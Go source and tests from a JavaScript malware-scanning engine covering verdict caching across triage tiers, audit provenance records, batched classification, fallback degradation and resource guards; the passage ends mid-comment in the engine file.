
// TestCachedTriageVerdictNotAliased pins the anti-aliasing rule: a cached
// triage clear must not be served by an engine whose triage is disabled —
// that engine promised full-pipeline verdicts, so it must recompute.
func TestCachedTriageVerdictNotAliased(t *testing.T) {
	var pipelineRuns int64
	counting := ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
		atomic.AddInt64(&pipelineRuns, 1)
		return false, nil
	})
	ctx := obs.WithRegistry(context.Background(), obs.NewRegistry())
	src := clearableBenign(t, 1)[0]
	key := contentKey(src)

	// An engine without triage finds a triage-tier entry in its cache (as
	// if written before a config change): it must ignore it and run the
	// pipeline, then overwrite the entry with the stronger claim.
	plain := New(counting, Config{Workers: 1})
	plain.cache.put(key, VerdictBenign, false, TierTriage, false, 0, nil)
	res := plain.ScanSource(ctx, "a.js", src)
	if got := atomic.LoadInt64(&pipelineRuns); got != 1 {
		t.Fatalf("pipeline ran %d times, want 1 (triage entry must not be served)", got)
	}
	if res.Tier != TierPipeline {
		t.Errorf("tier = %q, want %q", res.Tier, TierPipeline)
	}
	if ent, ok := plain.cache.get(key); !ok || ent.tier != TierPipeline {
		t.Errorf("cache entry after rescan = (%v, %q), want pipeline-tier entry", ok, ent.tier)
	}

	// The reverse direction: a triage-enabled engine serves both its own
	// triage entries and full-pipeline entries.
	tiered := New(counting, Config{Workers: 1, Triage: triageOn()})
	tiered.cache.put(key, VerdictBenign, false, TierTriage, false, 0, nil)
	res = tiered.ScanSource(ctx, "b.js", src)
	if res.Tier != TierCache {
		t.Errorf("tier = %q, want %q (triage entry is servable here)", res.Tier, TierCache)
	}

	// And a pipeline entry never downgrades to triage on re-put.
	tiered.cache.put(key, VerdictBenign, false, TierPipeline, false, 0, nil)
	tiered.cache.put(key, VerdictBenign, false, TierTriage, false, 0, nil)
	if ent, _ := tiered.cache.get(key); ent.tier != TierPipeline {
		t.Errorf("entry tier = %q after triage re-put, want pipeline kept", ent.tier)
	}
}

// TestAuditCarriesTriageTier: audit records name the producing tier for
// triage clears, and cache-hit records carry the cached entry's tier in
// cache_tier so a served triage verdict is distinguishable from a served
// full verdict.
func TestAuditCarriesTriageTier(t *testing.T) {
	log, records := openAudit(t)
	eng := New(ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
		return false, nil
	}), Config{Workers: 1, Audit: log, Triage: triageOn()})
	ctx := obs.WithRegistry(context.Background(), obs.NewRegistry())
	src := clearableBenign(t, 1)[0]

	if res := eng.ScanSource(ctx, "clear.js", src); res.Tier != TierTriage {
		t.Fatalf("tier = %q, want triage", res.Tier)
	}
	// Identical content again: a cache hit on the triage-produced entry.
	if res := eng.ScanSource(ctx, "again.js", src); res.Tier != TierCache {
		t.Fatalf("rescan tier = %q, want cache", res.Tier)
	}

	recs := records()
	if len(recs) != 2 {
		t.Fatalf("got %d audit records, want 2", len(recs))
	}
	if recs[0].Tier != TierTriage || recs[0].Cache != "miss" {
		t.Errorf("triage record tier/cache = %s/%s, want triage/miss", recs[0].Tier, recs[0].Cache)
	}
	if recs[1].Tier != TierCache || recs[1].Cache != "hit" || recs[1].CacheTier != TierTriage {
		t.Errorf("hit record tier/cache/cache_tier = %s/%s/%s, want cache/hit/triage",
			recs[1].Tier, recs[1].Cache, recs[1].CacheTier)
	}
	if recs[0].SHA256 == "" || recs[0].SHA256 != recs[1].SHA256 {
		t.Errorf("content digests = %q vs %q", recs[0].SHA256, recs[1].SHA256)
	}
}

// TestBatchedScanMatchesPerSource: ScanSources routes core.Detector through
// the batched path; every verdict must equal what the per-source path
// produces for the same content.
func TestBatchedScanMatchesPerSource(t *testing.T) {
	det, samples := trainedDetector(t)
	if _, ok := interface{}(det).(BatchClassifier); !ok {
		t.Fatal("core.Detector no longer implements BatchClassifier")
	}
	eng := New(det, Config{Workers: 4, CacheSize: -1})
	ctx := obs.WithRegistry(context.Background(), obs.NewRegistry())

	var sources []Source
	for i, s := range samples {
		if i == 12 {
			break
		}
		sources = append(sources, Source{Name: fmt.Sprintf("s%d.js", i), Content: s.Source})
	}
	var mu sync.Mutex
	got := map[string]Result{}
	stats := eng.ScanSources(ctx, sources, func(r Result) {
		mu.Lock()
		got[r.Path] = r
		mu.Unlock()
	})
	if stats.Scanned != len(sources) || stats.Failed != 0 {
		t.Fatalf("stats = %+v", stats)
	}
	for _, s := range sources {
		want := eng.ScanSource(ctx, s.Name, s.Content)
		r, ok := got[s.Name]
		if !ok {
			t.Fatalf("no result for %s", s.Name)
		}
		if r.Verdict != want.Verdict || r.Malicious != want.Malicious {
			t.Errorf("%s: batched=(%v,%v) single=(%v,%v)",
				s.Name, r.Verdict, r.Malicious, want.Verdict, want.Malicious)
		}
		if r.Tier != TierPipeline {
			t.Errorf("%s: tier = %q, want pipeline", s.Name, r.Tier)
		}
	}
}

// batchBroken implements BatchClassifier with a back half that always
// fails; every pending script must degrade individually to the fallback
// instead of being dropped.
type batchBroken struct{}

func (batchBroken) DetectCtx(ctx context.Context, src string) (bool, error) {
	return false, nil
}

func (batchBroken) PrepareBatch(ctx context.Context, src string, lim parser.Limits) (any, error) {
	return src, nil
}

func (batchBroken) ClassifyBatch(ctx context.Context, prepared []any) ([]bool, error) {
	return nil, errors.New("embedding backend down")
}

func TestBatchFailureDegradesEachScript(t *testing.T) {
	eng := New(batchBroken{}, Config{Workers: 2, CacheSize: -1})
	ctx := obs.WithRegistry(context.Background(), obs.NewRegistry())
	srcs := []Source{
		{Name: "a.js", Content: "var a = 1;"},
		{Name: "b.js", Content: "var b = 2;"},
		{Name: "c.js", Content: "var c = 3;"},
	}
	var mu sync.Mutex
	var results []Result
	stats := eng.ScanSources(ctx, srcs, func(r Result) {
		mu.Lock()
		results = append(results, r)
		mu.Unlock()
	})
	if len(results) != len(srcs) || stats.Degraded != len(srcs) {
		t.Fatalf("results=%d stats=%+v, want every script degraded", len(results), stats)
	}
	for _, r := range results {
		if r.Verdict != VerdictDegraded || !errors.Is(r.Err, ErrInternal) {
			t.Errorf("%s: verdict %v err %v, want DEGRADED/ErrInternal", r.Path, r.Verdict, r.Err)
		}
		if r.Tier != TierFallback {
			t.Errorf("%s: tier = %q, want fallback", r.Path, r.Tier)
		}
	}
}

// BenchmarkScanFilesTiered measures the batched engine over a benign-heavy
// directory with the triage tier off and on, same corpus, cache disabled.
// The off/on ratio is the headline win of the tiered pipeline: triage
// answers the common benign case without parse or embedding.
func BenchmarkScanFilesTiered(b *testing.B) {
	det, _ := trainedDetector(b)
	samples := corpus.Generate(corpus.Config{Benign: 64, Seed: 5, Pristine: true})
	dir := b.TempDir()
	var paths []string
	for i, s := range samples {
		p := filepath.Join(dir, fmt.Sprintf("f%02d.js", i))
		if err := os.WriteFile(p, []byte(s.Source), 0o644); err != nil {
			b.Fatal(err)
		}
		paths = append(paths, p)
	}
	for _, bc := range []struct {
		name string
		cfg  Config
	}{
		{"triage=off", Config{Workers: 4, CacheSize: -1}},
		{"triage=on", Config{Workers: 4, CacheSize: -1, Triage: triageOn()}},
	} {
		b.Run(bc.name, func(b *testing.B) {
			eng := New(det, bc.cfg)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				_, stats := eng.ScanFiles(context.Background(), paths)
				if stats.Failed != 0 {
					b.Fatalf("%d files failed", stats.Failed)
				}
			}
		})
	}
}
