// The engine's side of the verdict audit trail: provenance is collected
// where the verdict is decided (scanSource knows the cache outcome and
// which tier answered; the context carries the request metadata and trace)
// and written as one audit.Record per result, plus one webhook alert for
// alert-worthy rule verdicts. Everything here is gated on Config.Audit and
// Config.Alert — with both nil it costs nothing on the hot path.
package scan

import (
	"context"
	"encoding/hex"
	"time"

	"jsrevealer/internal/alert"
	"jsrevealer/internal/audit"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/rules"
)

// provenance is the audit-relevant context of one verdict, threaded out of
// scanSource alongside the Result. The zero value (auditing disabled)
// carries nothing — except rset, which is pinned for every scan so one
// file never mixes rule generations across a hot reload.
type provenance struct {
	sha        string            // hex content digest
	cache      string            // hit | miss | off
	tier       string            // triage | rules | cache | pipeline | fallback | none
	cacheTier  string            // on a hit: the tier that produced the cached entry
	deobPasses []string          // deobfuscation passes that rewrote the script
	stages     *obs.StageTimings // per-stage durations, nil unless auditing
	rset       *rules.Set        // rule set pinned for this scan; nil = rules off
}

// tierFor derives the audit tier from how the verdict was produced.
func tierFor(v Verdict, fromCache bool) string {
	switch {
	case fromCache:
		return TierCache
	case v == VerdictDegraded:
		return TierFallback
	case v == VerdictFailed:
		return TierNone
	default:
		return TierPipeline
	}
}

// recordResult reports one finished result to the configured sinks: an
// audit record, and — when the rule hits warrant one (deny or forcing
// signature, rules.ShouldAlert) — a webhook alert carrying the same
// provenance, so the two streams join on sha256 or trace_id. Call it after
// Duration is stamped. No-op when both sinks are disabled.
func (e *Engine) recordResult(ctx context.Context, res Result, prov provenance) {
	if e.cfg.Audit == nil && e.cfg.Alert == nil {
		return
	}
	m := audit.MetaFromContext(ctx)
	var traceID string
	if sp := obs.SpanFromContext(ctx); sp != nil {
		traceID = sp.TraceID.String()
	} else if rc, ok := obs.RemoteFromContext(ctx); ok {
		traceID = rc.TraceID.String()
	}
	if e.cfg.Audit != nil {
		rec := audit.Record{
			Name:       res.Path,
			SHA256:     prov.sha,
			Verdict:    res.Verdict.String(),
			Malicious:  res.Malicious,
			Bytes:      res.Bytes,
			DurationMS: float64(res.Duration) / float64(time.Millisecond),
			Tier:       prov.tier,
			Cache:      prov.cache,
			CacheTier:  prov.cacheTier,
			Model:      e.cfg.AuditModel,
			Source:     m.Source,
			Job:        m.Job,
			Attempt:    m.Attempt,
			RequestID:  m.RequestID,
			DeobPasses: prov.deobPasses,
			RuleHits:   res.RuleHits,
			TraceID:    traceID,
		}
		if res.Err != nil {
			rec.Reason = Reason(res.Err)
			rec.Error = res.Err.Error()
		}
		if prov.stages != nil {
			if snap := prov.stages.Snapshot(); len(snap) > 0 {
				rec.StagesMS = make(map[string]float64, len(snap))
				for stage, d := range snap {
					rec.StagesMS[stage] = float64(d) / float64(time.Millisecond)
				}
			}
		}
		e.cfg.Audit.Write(rec)
	}
	if e.cfg.Alert != nil && rules.ShouldAlert(res.RuleHits) {
		e.cfg.Alert.Publish(alert.Alert{
			Name:      res.Path,
			SHA256:    prov.sha,
			Verdict:   res.Verdict.String(),
			Hits:      res.RuleHits,
			Source:    m.Source,
			TraceID:   traceID,
			RequestID: m.RequestID,
		})
	}
}

// hexKey renders a cache key as the audit trail's content digest.
func hexKey(k cacheKey) string {
	return hex.EncodeToString(k[:])
}
