// The engine's side of the verdict audit trail: provenance is collected
// where the verdict is decided (scanSource knows the cache outcome and
// which tier answered; the context carries the request metadata and trace)
// and written as one audit.Record per result. Everything here is gated on
// Config.Audit — a nil sink costs nothing on the hot path.
package scan

import (
	"context"
	"encoding/hex"
	"time"

	"jsrevealer/internal/audit"
	"jsrevealer/internal/obs"
)

// provenance is the audit-relevant context of one verdict, threaded out of
// scanSource alongside the Result. The zero value (auditing disabled)
// carries nothing.
type provenance struct {
	sha        string            // hex content digest
	cache      string            // hit | miss | off
	tier       string            // triage | cache | pipeline | fallback | none
	cacheTier  string            // on a hit: the tier that produced the cached entry
	deobPasses []string          // deobfuscation passes that rewrote the script
	stages     *obs.StageTimings // per-stage durations, nil unless auditing
}

// tierFor derives the audit tier from how the verdict was produced.
func tierFor(v Verdict, fromCache bool) string {
	switch {
	case fromCache:
		return TierCache
	case v == VerdictDegraded:
		return TierFallback
	case v == VerdictFailed:
		return TierNone
	default:
		return TierPipeline
	}
}

// auditResult writes one audit record for a finished result. Call it after
// Duration is stamped. No-op when auditing is disabled.
func (e *Engine) auditResult(ctx context.Context, res Result, prov provenance) {
	if e.cfg.Audit == nil {
		return
	}
	m := audit.MetaFromContext(ctx)
	rec := audit.Record{
		Name:       res.Path,
		SHA256:     prov.sha,
		Verdict:    res.Verdict.String(),
		Malicious:  res.Malicious,
		Bytes:      res.Bytes,
		DurationMS: float64(res.Duration) / float64(time.Millisecond),
		Tier:       prov.tier,
		Cache:      prov.cache,
		CacheTier:  prov.cacheTier,
		Model:      e.cfg.AuditModel,
		Source:     m.Source,
		Job:        m.Job,
		Attempt:    m.Attempt,
		RequestID:  m.RequestID,
		DeobPasses: prov.deobPasses,
	}
	if res.Err != nil {
		rec.Reason = Reason(res.Err)
		rec.Error = res.Err.Error()
	}
	if sp := obs.SpanFromContext(ctx); sp != nil {
		rec.TraceID = sp.TraceID.String()
	} else if rc, ok := obs.RemoteFromContext(ctx); ok {
		rec.TraceID = rc.TraceID.String()
	}
	if prov.stages != nil {
		if snap := prov.stages.Snapshot(); len(snap) > 0 {
			rec.StagesMS = make(map[string]float64, len(snap))
			for stage, d := range snap {
				rec.StagesMS[stage] = float64(d) / float64(time.Millisecond)
			}
		}
	}
	e.cfg.Audit.Write(rec)
}

// hexKey renders a cache key as the audit trail's content digest.
func hexKey(k cacheKey) string {
	return hex.EncodeToString(k[:])
}
