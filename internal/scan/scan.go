// Package scan is the hardened bulk-scanning engine: it drives a classifier
// over many files from a configurable worker pool while guaranteeing that
// no single input — however pathological — can take the scan down.
//
// Each file is classified inside an isolated goroutine with
//
//   - panic recovery: a panic anywhere in the pipeline becomes a structured
//     ErrInternal result instead of crashing the process;
//   - a per-file deadline enforced via context.Context and the parser's
//     cooperative cancellation;
//   - input guards: maximum file size, maximum token count, and the
//     parser's recursion-depth limit;
//   - graceful degradation: when the full pipeline fails or times out, a
//     cheap lexical fallback still produces a verdict and the result is
//     reported as Degraded rather than dropped.
//
// Results carry the error taxonomy of errors.go plus per-scan counters and
// latency percentiles (Stats), the substrate for observability layers.
package scan

import (
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"jsrevealer/internal/alert"
	"jsrevealer/internal/audit"
	"jsrevealer/internal/baselines"
	"jsrevealer/internal/deobfuscate"
	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/rules"
	"jsrevealer/internal/triage"
)

// Classifier is the full detection pipeline the engine drives. It must be
// safe for concurrent use and should honour ctx cancellation cooperatively;
// the engine additionally enforces the deadline from outside and recovers
// panics, so a misbehaving classifier degrades a file, never the scan.
type Classifier interface {
	DetectCtx(ctx context.Context, src string) (bool, error)
}

// LimitedClassifier is optionally implemented by classifiers that accept
// explicit parser resource limits (core.Detector does); the engine then
// threads its MaxDepth/MaxTokens guards through the parse.
type LimitedClassifier interface {
	DetectWithLimits(ctx context.Context, src string, lim parser.Limits) (bool, error)
}

// ClassifierFunc adapts a function to the Classifier interface.
type ClassifierFunc func(ctx context.Context, src string) (bool, error)

// DetectCtx implements Classifier.
func (f ClassifierFunc) DetectCtx(ctx context.Context, src string) (bool, error) {
	return f(ctx, src)
}

// Fallback produces a cheap verdict when the full pipeline cannot. It must
// be panic-free in spirit (the engine still recovers) and bounded: it runs
// after the per-file deadline has already been spent.
type Fallback interface {
	DetectCtx(ctx context.Context, src string) (bool, error)
}

// Default resource guards.
const (
	DefaultTimeout   = 10 * time.Second
	DefaultMaxBytes  = int64(10 << 20)
	DefaultMaxTokens = 2_000_000
)

// Config tunes the engine. The zero value gets sensible hardened defaults.
type Config struct {
	// Workers is the worker-pool size; <= 0 means GOMAXPROCS.
	Workers int
	// Timeout is the per-file deadline; <= 0 means DefaultTimeout.
	// The pipeline is aborted cooperatively and the file degraded.
	Timeout time.Duration
	// MaxBytes caps the file size read for full classification; larger
	// files are degraded on a MaxBytes prefix. <= 0 means DefaultMaxBytes.
	MaxBytes int64
	// MaxTokens caps the lexer token count; <= 0 means DefaultMaxTokens.
	MaxTokens int
	// MaxDepth caps parser recursion; <= 0 means parser.DefaultMaxDepth.
	MaxDepth int
	// Fallback overrides the degradation detector; nil selects the
	// baselines lexical heuristic.
	Fallback Fallback
	// NoFallback disables degradation entirely: guarded or failing files
	// are reported as Failed instead of Degraded.
	NoFallback bool
	// CacheSize bounds the verdict cache (entries): repeated scans of
	// byte-identical content are answered from the cache without re-running
	// the pipeline. 0 selects DefaultCacheSize; negative disables caching.
	// Only clean verdicts (benign/malicious) are cached — degraded and
	// failed results are always recomputed.
	CacheSize int
	// Audit, when non-nil, receives one record per verdict: content digest,
	// outcome, which tier produced it, per-stage timings, and the request
	// provenance carried by the scan context (audit.Meta). Writes never
	// block the hot path; nil disables auditing with zero overhead.
	Audit *audit.Log
	// AuditModel is the model-generation identifier stamped into audit
	// records — the serving layer sets it to the model file's hex digest so
	// every verdict names the exact weights that produced it.
	AuditModel string
	// Triage configures the lexical pre-filter tier. The zero value
	// (Threshold 0) disables it, preserving today's behavior exactly:
	// every input runs the full pipeline. With Threshold > 0, scripts
	// whose lexical suspicion stays below the threshold short-circuit to a
	// benign verdict tagged TierTriage without ever being parsed — the
	// common benign case answered in microseconds instead of
	// milliseconds. Triage never flags: anything at or above the
	// threshold escalates to the full pipeline unchanged.
	Triage triage.Config
	// Deobfuscate configures the AST-to-AST normalization stage that runs
	// between triage and the full pipeline (see internal/deobfuscate):
	// constant folding, string-array unfolding, eval unwrapping, and friends
	// strip the obfuscation layer so the classifier sees what the script
	// does, not how it was wrapped. The zero value disables it — no parse,
	// no cost. When enabled, only the classifier sees the normalized source;
	// the cache key, audit digest, triage tier, and fallback keep answering
	// for the original bytes as submitted. Per-request override:
	// WithDeobfuscate.
	Deobfuscate deobfuscate.Config
	// Rules supplies the declarative rules layer (internal/rules): IOC
	// allow/deny lists and signatures evaluated alongside the model. nil —
	// or a provider whose Current() is nil — disables it, leaving every
	// verdict bit-identical to a rules-free engine. The engine reads
	// Current() once per scan, so hot reloads never mix generations within
	// one file. Precedence over the model: a deny hit or forcing signature
	// forces malicious regardless of score; an allow hit short-circuits
	// benign; anything else annotates the model's verdict (see
	// docs/RULES.md).
	Rules rules.Provider
	// Alert, when non-nil, receives one webhook alert per alert-worthy rule
	// verdict (deny hits and forcing signatures — rules.ShouldAlert).
	// Publishing never blocks the scan path; nil disables alerting.
	Alert alert.Publisher
}

func (c Config) withDefaults() Config {
	if c.Workers <= 0 {
		c.Workers = runtime.GOMAXPROCS(0)
	}
	if c.Timeout <= 0 {
		c.Timeout = DefaultTimeout
	}
	if c.MaxBytes <= 0 {
		c.MaxBytes = DefaultMaxBytes
	}
	if c.MaxTokens <= 0 {
		c.MaxTokens = DefaultMaxTokens
	}
	if c.MaxDepth <= 0 {
		c.MaxDepth = parser.DefaultMaxDepth
	}
	if c.Fallback == nil {
		c.Fallback = baselines.NewHeuristic()
	}
	if c.CacheSize == 0 {
		c.CacheSize = DefaultCacheSize
	}
	return c
}

// Verdict is the outcome class of one scanned file.
type Verdict int

const (
	// VerdictBenign: the full pipeline ran and found nothing.
	VerdictBenign Verdict = iota
	// VerdictMalicious: the full pipeline flagged the file.
	VerdictMalicious
	// VerdictDegraded: the full pipeline failed or timed out and the
	// fallback produced the verdict; Result.Err holds the cause and
	// Result.Malicious the fallback's opinion.
	VerdictDegraded
	// VerdictFailed: no verdict at all (fallback disabled or failed too).
	VerdictFailed
)

// String renders the verdict for logs and CLI output.
func (v Verdict) String() string {
	switch v {
	case VerdictBenign:
		return "benign"
	case VerdictMalicious:
		return "MALICIOUS"
	case VerdictDegraded:
		return "DEGRADED"
	case VerdictFailed:
		return "FAILED"
	default:
		return fmt.Sprintf("Verdict(%d)", int(v))
	}
}

// Result is the outcome of scanning one file.
type Result struct {
	// Path identifies the input (file path or caller-chosen name).
	Path string
	// Verdict is the outcome class.
	Verdict Verdict
	// Malicious is the boolean verdict; for VerdictDegraded it comes from
	// the fallback, for VerdictFailed it is meaningless.
	Malicious bool
	// Err is nil for clean verdicts; otherwise it wraps exactly one of the
	// taxonomy sentinels (ErrParse, ErrDepthLimit, ErrTimeout, ErrTooLarge,
	// ErrInternal).
	Err error
	// Bytes is the input size.
	Bytes int64
	// Duration is the wall time spent on the file, fallback included. In a
	// batched scan this is the file's own share — its load/triage/prepare
	// time plus the shared batch classification — not the time it spent
	// waiting at the batch barrier.
	Duration time.Duration
	// Tier names what produced the verdict: TierTriage, TierPipeline,
	// TierCache, TierFallback, or TierNone (see tier.go).
	Tier string
	// DeobPasses lists the deobfuscation passes that rewrote the script
	// before classification, in pipeline order — verdict provenance, like
	// Tier. Empty when the stage is disabled, the verdict came from another
	// tier, or no pass found anything to undo.
	DeobPasses []string
	// RuleHits lists the rule matches behind the verdict, most decisive
	// first (deny, then signatures, then allow) — rule provenance, the
	// third leg alongside Tier and DeobPasses. When Tier is TierRules the
	// leading hit decided the verdict; otherwise the hits are annotations
	// riding on the model's answer. Empty when rules are disabled or
	// nothing matched.
	RuleHits []rules.Hit
}

// Stats aggregates one engine run.
type Stats struct {
	// Scanned counts all files with any result.
	Scanned int
	// Flagged counts malicious verdicts, degraded ones included.
	Flagged int
	// Degraded counts files the fallback had to cover.
	Degraded int
	// Failed counts files with no verdict at all.
	Failed int
	// Triaged counts files the lexical triage tier cleared as benign
	// without running the full pipeline (always 0 when triage is
	// disabled).
	Triaged int
	// Deobfuscated counts files the deobfuscation stage rewrote before
	// classification — at least one pass fired (always 0 when the stage is
	// disabled).
	Deobfuscated int
	// RuleMatched counts files with at least one rule hit — forcing or
	// annotating (always 0 when rules are disabled).
	RuleMatched int
	// Per-error-taxonomy counts over degraded and failed files, derived
	// from Result.Err (see Reason). Their sum equals Degraded+Failed.
	ParseErrors int
	Timeouts    int
	TooLarge    int
	DepthLimit  int
	Internal    int
	// Wall is the end-to-end scan time.
	Wall time.Duration
	// P50 and P99 are per-file latency percentiles.
	P50, P99 time.Duration
}

// Engine scans files concurrently with panic isolation, deadlines, input
// guards, and graceful degradation. It is safe for concurrent use.
type Engine struct {
	c      Classifier
	cfg    Config
	cache  *verdictCache         // nil when caching is disabled
	triage *triage.Scorer        // nil when the triage tier is disabled
	deob   *deobfuscate.Pipeline // always built; use is gated per scan (deobOn)
}

// New builds an engine around a classifier. cfg zero-values select the
// hardened defaults.
func New(c Classifier, cfg Config) *Engine {
	e := &Engine{c: c, cfg: cfg.withDefaults()}
	if e.cfg.CacheSize > 0 {
		e.cache = newVerdictCache(e.cfg.CacheSize)
	}
	if e.cfg.Triage.Enabled() {
		e.triage = triage.New(e.cfg.Triage)
	}
	// The pipeline is built unconditionally (it is a handful of words) so a
	// per-request WithDeobfuscate override works even when the engine-wide
	// default is off.
	e.deob = deobfuscate.NewPipeline(e.cfg.Deobfuscate)
	return e
}

// Config returns the engine's effective (defaulted) configuration.
func (e *Engine) Config() Config { return e.cfg }

// ScanDir walks dir and scans every .js file. Unreadable files or
// directory entries become Failed results; the walk itself never aborts on
// a per-entry error. The returned error is non-nil only when the root
// itself is unusable.
func (e *Engine) ScanDir(ctx context.Context, dir string) ([]Result, Stats, error) {
	var paths []string
	var broken []Result
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			if path == dir {
				return err
			}
			broken = append(broken, Result{
				Path:    path,
				Verdict: VerdictFailed,
				Tier:    TierNone,
				Err:     fmt.Errorf("%w: %v", ErrInternal, err),
			})
			return nil
		}
		if !d.IsDir() && strings.HasSuffix(path, ".js") {
			paths = append(paths, path)
		}
		return nil
	})
	if err != nil {
		return nil, Stats{}, err
	}
	results, stats := e.ScanFiles(ctx, paths)
	ins := newInstruments(obs.FromContext(ctx))
	for _, r := range broken {
		ins.observe(r)
	}
	results = append(results, broken...)
	stats.Scanned += len(broken)
	stats.Failed += len(broken)
	stats.Internal += len(broken)
	return results, stats, nil
}

// ScanFiles scans the given files through the worker pool and returns one
// Result per path, in input order, plus aggregate statistics. Per-file
// latency, queue wait, verdict, and error-taxonomy metrics are recorded
// into the registry carried by ctx (obs.Default() otherwise).
func (e *Engine) ScanFiles(ctx context.Context, paths []string) ([]Result, Stats) {
	if bc, ok := e.c.(BatchClassifier); ok {
		return e.scanFilesBatched(ctx, bc, paths)
	}
	start := time.Now()
	ins := newInstruments(obs.FromContext(ctx))
	results := make([]Result, len(paths))
	workers := e.cfg.Workers
	if workers > len(paths) {
		workers = len(paths)
	}
	var next int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(atomic.AddInt64(&next, 1)) - 1
				if i >= len(paths) || ctx.Err() != nil {
					return
				}
				// Queue wait: how long the file sat before any worker
				// reached it — the engine's backpressure signal.
				ins.wait.ObserveDuration(time.Since(start))
				ins.inflight.Inc()
				res := e.scanFile(ctx, ins, paths[i])
				ins.inflight.Dec()
				ins.observe(res)
				results[i] = res
			}
		}()
	}
	wg.Wait()
	// Files skipped by an engine-wide cancellation still get a result.
	for i := range results {
		if results[i].Path == "" {
			results[i] = Result{
				Path:    paths[i],
				Verdict: VerdictFailed,
				Tier:    TierNone,
				Err:     fmt.Errorf("%w: scan cancelled: %v", ErrTimeout, ctx.Err()),
			}
			ins.observe(results[i])
		}
	}
	return results, summarize(results, time.Since(start))
}

// Source is one named in-memory script for ScanSources.
type Source struct {
	// Name identifies the script in results and logs (a batch submission's
	// per-record name, for example); it need not be a real path.
	Name string
	// Content is the script source.
	Content string
}

// ScanSources scans in-memory sources through the worker pool under the
// same guards as ScanFiles. When emit is non-nil it is invoked once per
// finished result, in completion order, from worker goroutines — emit must
// be safe for concurrent use. This is the substrate for streaming batch
// APIs: callers can forward each verdict as it lands instead of waiting for
// the whole batch. Aggregate statistics are returned once every source is
// done; per-file metrics land in the registry carried by ctx.
func (e *Engine) ScanSources(ctx context.Context, srcs []Source, emit func(Result)) Stats {
	if bc, ok := e.c.(BatchClassifier); ok {
		return e.scanSourcesBatched(ctx, bc, srcs, emit)
	}
	start := time.Now()
	ins := newInstruments(obs.FromContext(ctx))
	results := make([]Result, len(srcs))
	done := make([]bool, len(srcs))
	workers := e.cfg.Workers
	if workers > len(srcs) {
		workers = len(srcs)
	}
	var next int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(atomic.AddInt64(&next, 1)) - 1
				if i >= len(srcs) || ctx.Err() != nil {
					return
				}
				ins.wait.ObserveDuration(time.Since(start))
				fstart := time.Now()
				sctx, sp := obs.StartSpan(ctx, "scan.file")
				ins.inflight.Inc()
				res, prov := e.scanSource(sctx, ins, srcs[i].Name, srcs[i].Content)
				ins.inflight.Dec()
				sp.End()
				res.Duration = time.Since(fstart)
				ins.observe(res)
				e.recordResult(sctx, res, prov)
				results[i] = res
				done[i] = true
				if emit != nil {
					emit(res)
				}
			}
		}()
	}
	wg.Wait()
	// Sources skipped by an engine-wide cancellation still get a result.
	for i := range results {
		if !done[i] {
			results[i] = Result{
				Path:    srcs[i].Name,
				Verdict: VerdictFailed,
				Tier:    TierNone,
				Err:     fmt.Errorf("%w: scan cancelled: %v", ErrTimeout, ctx.Err()),
			}
			ins.observe(results[i])
			if emit != nil {
				emit(results[i])
			}
		}
	}
	return summarize(results, time.Since(start))
}

// ScanSource scans one in-memory script under the engine's guards,
// recording the same per-file metrics as ScanFiles.
func (e *Engine) ScanSource(ctx context.Context, name, src string) Result {
	start := time.Now()
	ins := newInstruments(obs.FromContext(ctx))
	sctx, sp := obs.StartSpan(ctx, "scan.file")
	ins.inflight.Inc()
	res, prov := e.scanSource(sctx, ins, name, src)
	ins.inflight.Dec()
	sp.End()
	res.Duration = time.Since(start)
	ins.observe(res)
	e.recordResult(sctx, res, prov)
	return res
}

// scanFile loads one file and scans it; oversized files skip straight to
// degradation on a bounded prefix without ever being fully read. The whole
// file is covered by a "scan.file" span, under which the classifier's own
// spans nest.
func (e *Engine) scanFile(ctx context.Context, ins *instruments, path string) Result {
	start := time.Now()
	ctx, sp := obs.StartSpan(ctx, "scan.file")
	defer sp.End()
	res, prov, src, finished := e.loadFile(ctx, path)
	if !finished {
		res, prov = e.scanSource(ctx, ins, path, src)
	}
	res.Duration = time.Since(start)
	e.recordResult(ctx, res, prov)
	return res
}

// loadFile stats and reads path under the engine's size guard. A true
// finished flag means the file never reaches the pipeline: stat/read
// failure (Failed) or oversize (degraded on a MaxBytes prefix, never fully
// read). Duration is left for the caller to stamp.
func (e *Engine) loadFile(ctx context.Context, path string) (Result, provenance, string, bool) {
	res := Result{Path: path}
	info, err := os.Stat(path)
	if err != nil {
		res.Verdict = VerdictFailed
		res.Err = fmt.Errorf("%w: %v", ErrInternal, err)
		res.Tier = TierNone
		return res, provenance{cache: "off", tier: TierNone}, "", true
	}
	if info.Size() > e.cfg.MaxBytes {
		res.Bytes = info.Size()
		prov := provenance{cache: "off"}
		prefix, err := readPrefix(path, e.cfg.MaxBytes)
		if err != nil {
			res.Verdict = VerdictFailed
			res.Err = fmt.Errorf("%w: %v", ErrInternal, err)
		} else {
			cause := fmt.Errorf("%w: file is %d bytes (limit %d)",
				ErrTooLarge, info.Size(), e.cfg.MaxBytes)
			res.Verdict, res.Malicious, res.Err = e.degrade(ctx, prefix, cause)
			if e.cfg.Audit != nil {
				// Only the scanned prefix was ever read; its digest is what
				// the verdict answers for.
				prov.sha = hexKey(contentKey(prefix))
			}
		}
		res.Tier = tierFor(res.Verdict, false)
		prov.tier = res.Tier
		return res, prov, "", true
	}
	data, err := os.ReadFile(path)
	if err != nil {
		res.Verdict = VerdictFailed
		res.Err = fmt.Errorf("%w: %v", ErrInternal, err)
		res.Tier = TierNone
		return res, provenance{cache: "off", tier: TierNone}, "", true
	}
	return res, provenance{}, string(data), false
}

// scanSource runs the guarded pipeline over src and degrades on any
// structured failure. Duration is left for the caller to stamp. Content
// already classified cleanly by this engine is answered from the verdict
// cache, and — when the triage tier is enabled — plainly benign content is
// cleared lexically, both without running the pipeline. The returned
